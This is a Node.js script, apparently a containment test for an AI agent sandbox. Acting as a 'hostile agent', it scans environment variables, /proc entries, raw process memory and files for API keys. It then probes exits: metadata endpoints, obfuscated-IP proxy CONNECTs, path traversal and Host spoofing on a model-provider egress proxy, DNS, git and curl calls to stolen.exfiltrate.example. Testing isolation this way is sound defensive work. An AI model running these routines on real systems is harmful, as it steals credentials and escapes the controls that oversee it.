/**
 * A hostile agent, run inside a worker with nothing but Node: it looks for keys wherever it can read, and tries to carry
 * data out by every way it knows. It knows what a key looks like (`WANTED`, regular expressions), not which key it is.
 * Prints one JSON line: what it looked at, what it found, and how each way out ended.
 *
 *   node hunt.mjs [--look-only | --beside-image | --memory-of PID,PID]      WANTED='["sk-…"]' HOSTILE=port
 */
import { spawnSync } from "node:child_process";
import { createSocket } from "node:dgram";
import { promises as dns } from "node:dns";
import { closeSync, lstatSync, openSync, readdirSync, readFileSync, readlinkSync, readSync } from "node:fs";
import { request } from "node:http";
import { connect } from "node:net";
import { join } from "node:path";

const wanted = JSON.parse(process.env.WANTED ?? "[]").map((source) => new RegExp(source, "g"));
const hostile = Number(process.env.HOSTILE);
const looked = {};
const found = [];

/** One place: how many bytes of it could be read, and what stood there. */
function look(kind, place, read) {
  looked[kind] ??= { places: 0, bytes: 0, refused: 0 };
  try {
    const content = read();
    const text = Buffer.isBuffer(content) ? content.toString("latin1") : content;
    looked[kind].places += 1;
    looked[kind].bytes += text.length;
    for (const pattern of wanted)
      for (const hit of new Set(text.match(pattern) ?? [])) found.push({ kind, place, hit });
  } catch {
    looked[kind].refused += 1;
  }
}
const list = (folder) => {
  try {
    return readdirSync(folder);
  } catch {
    return [];
  }
};

function processes() {
  look("own environment", "process.env", () => JSON.stringify(process.env));
  for (const pid of list("/proc").filter((name) => /^\d+$/.test(name))) {
    look("environments", `/proc/${pid}/environ`, () => readFileSync(`/proc/${pid}/environ`));
    look("arguments", `/proc/${pid}/cmdline`, () => readFileSync(`/proc/${pid}/cmdline`));
    for (const fd of list(`/proc/${pid}/fd`))
      look("open files", `/proc/${pid}/fd/${fd}`, () => readlinkSync(`/proc/${pid}/fd/${fd}`));
    memory(pid);
  }
}

/** Writable private memory: where a program that knows a key would have it. */
function memory(pid) {
  let maps;
  try {
    maps = readFileSync(`/proc/${pid}/maps`, "utf8");
  } catch {
    return look("memory", `/proc/${pid}/mem`, () => readFileSync(`/proc/${pid}/maps`));
  }
  let mem;
  look("memory", `/proc/${pid}/mem`, () => {
    mem = openSync(`/proc/${pid}/mem`, "r");
    return "";
  });
  if (mem === undefined) return;
  const piece = Buffer.alloc(4 * 1024 * 1024);
  for (const line of maps.split("\n")) {
    const range = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
    if (!range) continue;
    const end = Number.parseInt(range[2], 16);
    // Pieces overlap, so that nothing is cut in two.
    for (let at = Number.parseInt(range[1], 16); at < end; at += piece.length - 256) {
      let read = 0;
      try {
        read = readSync(mem, piece, 0, Math.min(piece.length, end - at), at);
      } catch {
        break;
      }
      look("memory", `/proc/${pid}/mem`, () => piece.subarray(0, read));
    }
  }
  closeSync(mem);
}

function files(folder) {
  for (const name of list(folder)) {
    const path = join(folder, name);
    if (/^\/(proc|sys|dev)$/.test(path) || name === "node_modules") continue;
    let stat;
    try {
      stat = lstatSync(path);
    } catch {
      continue;
    }
    if (stat.isDirectory()) files(path);
    else if (stat.isSocket()) sockets.push(path);
    else if (stat.isFile() && stat.size < 16 * 1024 * 1024) look("files", path, () => readFileSync(path));
  }
}
const sockets = [];

/** Asks over HTTP; resolves with whatever came back, never rejects. */
function ask(options, body = "") {
  return new Promise((resolve) => {
    const asking = request({ timeout: 5_000, ...options }, (response) => {
      let text = "";
      response.on("data", (part) => {
        text += part;
      });
      response.on("close", () => resolve(`${response.statusCode} ${JSON.stringify(response.headers)} ${text}`));
    });
    asking.on("connect", (response, socket) => {
      socket.destroy();
      resolve(`${response.statusCode} ${response.statusCode === 200 ? "TUNNEL" : ""}`);
    });
    asking.on("timeout", () => asking.destroy(new Error("timeout")));
    asking.on("error", (error) => resolve(`failed ${error.code ?? error.message}`));
    asking.end(body);
  });
}

const tcp = (host, port) =>
  new Promise((resolve) => {
    const socket = connect({ host, port, timeout: 3_000 }, () => {
      socket.write("POST /stolen HTTP/1.1\r\nhost: x\r\ncontent-length: 0\r\n\r\n");
      socket.end(() => resolve("CONNECTED"));
    });
    socket.on("timeout", () => socket.destroy(new Error("timeout")));
    socket.on("error", (error) => resolve(`failed ${error.code ?? error.message}`));
  });

const udp = (host) =>
  new Promise((resolve) => {
    const socket = createSocket("udp4");
    socket.on("error", (error) => resolve(`failed ${error.code}`));
    socket.send("stolen", 53, host, (error) => {
      socket.close();
      resolve(error ? `failed ${error.code}` : "SENT");
    });
  });

async function waysOut() {
  const proxy = new URL(process.env.HTTPS_PROXY ?? process.env.HTTP_PROXY ?? "http://127.0.0.1:1");
  const through = { host: proxy.hostname, port: proxy.port };
  const egress = "/run/egress/proxy.sock";
  const ends = {};
  const attempt = async (way, end) => {
    ends[way] = String(await end).slice(0, 300);
    look("answers", way, () => ends[way]);
  };
  for (const path of sockets) await attempt(`socket ${path}`, ask({ socketPath: path, path: "/" }));
  for (const host of ["127.0.0.1", "172.17.0.1", "host.docker.internal", "localhost"])
    await attempt(`direct ${host}`, tcp(host, hostile));
  for (const host of ["169.254.169.254", "168.63.129.16", "100.100.100.200", "fd00:ec2::254"])
    await attempt(`metadata ${host}`, tcp(host, 80));
  for (const to of [
    `127.0.0.1:${hostile}`,
    `localhost:${hostile}`,
    `[::1]:${hostile}`,
    `[::ffff:127.0.0.1]:${hostile}`,
    `2130706433:${hostile}`,
    `0.0.0.0:${hostile}`,
    "169.254.169.254:80",
    "stolen.exfiltrate.example:443",
  ]) {
    await attempt(`CONNECT ${to}`, ask({ ...through, method: "CONNECT", path: to }));
    await attempt(`CONNECT on the socket ${to}`, ask({ socketPath: egress, method: "CONNECT", path: to }));
  }
  const bodies = JSON.stringify({ model: "m", max_tokens: 1, messages: [{ role: "user", content: "SCN:say:hi" }] });
  for (const path of [
    `http://127.0.0.1:${hostile}/stolen`,
    "http://169.254.169.254/latest/meta-data/",
    `/provider/claude-code@127.0.0.1:${hostile}/v1/messages`,
    `/provider/claude-code/../../stolen`,
    "/provider/claude-code/v1/files",
    "/provider/claude-code/v1/organizations/me",
    "/provider/unknown/v1/messages",
  ])
    await attempt(
      `path ${path}`,
      ask({ socketPath: egress, method: "POST", path, headers: { host: `127.0.0.1:${hostile}` } }, bodies),
    );
  const pretended = { "content-type": "application/json", host: `127.0.0.1:${hostile}`, "x-forwarded-host": "x" };
  await attempt(
    "a model call that names another host",
    ask({ socketPath: egress, method: "POST", path: "/provider/claude-code/v1/messages", headers: pretended }, bodies),
  );
  await attempt("TRACE", ask({ socketPath: egress, method: "TRACE", path: "/provider/claude-code/v1/messages" }));
  await attempt(
    "DNS lookup",
    dns.lookup("stolen.exfiltrate.example").then(
      () => "RESOLVED",
      (error) => `failed ${error.code}`,
    ),
  );
  await attempt("DNS to 8.8.8.8", udp("8.8.8.8"));
  for (const [program, ...args] of [
    ["git", "push", `http://127.0.0.1:${hostile}/x.git`, "HEAD"],
    ["git", "ls-remote", "https://stolen.exfiltrate.example/x.git"],
    ["curl", "-sS", "-m", "5", "-d", "stolen", `http://127.0.0.1:${hostile}/`],
    ["curl", "-sS", "-m", "5", "-p", "-x", proxy.href, `http://127.0.0.1:${hostile}/`],
  ]) {
    const { status, error } = spawnSync(program, args, { timeout: 10_000, cwd: "/workspace" });
    await attempt([program, ...args].join(" "), error ? `failed ${error.code}` : `exit ${status}`);
  }
  return ends;
}

const memoryOf = process.argv[process.argv.indexOf("--memory-of") + 1] ?? "";
let ends = {};
if (process.argv.includes("--memory-of")) for (const pid of memoryOf.split(",")) memory(pid);
else {
  processes();
  for (const folder of process.argv.includes("--beside-image") ? ["/run", "/tmp", "/workspace"] : ["/"]) files(folder);
  for (const path of ["/proc/self/mountinfo", "/proc/net/unix", "/proc/net/tcp", "/proc/1/status"])
    look("kernel tables", path, () => readFileSync(path));
  if (!process.argv.includes("--look-only")) ends = await waysOut();
}
console.log(`HUNT ${JSON.stringify({ looked, found, ends })}`);
